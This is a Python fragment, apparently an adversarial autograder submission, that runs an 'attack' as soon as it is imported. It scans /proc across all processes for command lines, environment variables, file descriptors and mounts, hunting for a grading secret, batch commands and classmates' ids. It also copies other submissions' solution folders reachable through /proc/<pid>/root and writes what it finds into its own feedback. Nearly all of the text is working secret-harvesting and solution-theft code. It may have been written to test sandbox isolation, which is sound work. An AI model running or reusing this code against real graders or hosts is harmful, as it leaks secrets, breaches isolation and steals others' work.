"""Reads every process's cmdline, environ, status, cwd, root, fds and mounts through /proc,
its own environment, and /proc/<pid>/root/... paths to the solutions: anything it learns
(the batch command line, RESULTS, classmates' ids, the grading secret) goes into its own
feedback, and any solution it reaches is used."""
# ---- the attack ----
def attack():
    learned = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
        for name in ("cmdline", "environ", "status", "maps", "mountinfo", "stack", "syscall", "io"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text = f.read(1 << 16).replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            for needle in ("grade", "batch", "--out", "honest_", "GRADER_SECRET", "pytest", "solutions", "SUBS", "/R-"):
                if needle in text and name != "maps":
                    i = text.index(needle)
                    learned.append(f"{pid}/{name}:{text[max(0, i - 40): i + 60]}")
        for link in ("cwd", "root", "exe"):
            try:
                learned.append(f"{pid}/{link}->{os.readlink(f'/proc/{pid}/{link}')}")
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    learned.append(f"{pid}/fd/{fd}->{os.readlink(f'/proc/{pid}/fd/{fd}')}")
                except OSError:
                    pass
        except OSError:
            pass
        for folder in _solution_dirs():
            via = f"/proc/{pid}/root{folder}"
            if os.path.isdir(via):
                _take(via)
    learned += [f"env {k}={v[:40]}" for k, v in os.environ.items()]
    for path in ("/proc/net/tcp", "/proc/net/unix", "/proc/sys/kernel/hostname", "/etc/hostname", "/proc/1/cgroup"):
        try:
            learned.append(f"{path}: " + open(path).read()[:200].replace("\n", " / "))
        except OSError as exc:
            learned.append(f"{path}: {exc.strerror}")
    for item in learned:
        _note("learned", item)


_try("attack at import", attack)
_try("hunt", _hunt)
